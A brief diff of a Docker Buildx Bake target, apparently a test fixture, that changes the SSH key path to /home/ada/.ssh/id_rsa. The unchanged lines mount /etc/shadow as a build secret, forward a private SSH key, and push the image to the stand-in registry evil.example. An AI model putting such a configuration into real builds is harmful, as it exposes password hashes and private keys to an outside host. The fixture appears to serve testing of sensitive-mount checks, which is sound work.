@@ -46,7 +46,7 @@ target "app" {
   args     = { V = v, NONE = null }
   contexts = { lib = "lib", golang = "docker-image://golang:1.26" }
   secret   = ["id=token,src=/etc/shadow", "type=env,id=key,env=HOME"]
-  ssh      = ["default=/root/.ssh/id_rsa"]
+  ssh      = ["default=/home/ada/.ssh/id_rsa"]
   target   = "run"
   tags     = ["evil.example/app:latest"]
   output   = ["type=registry"]
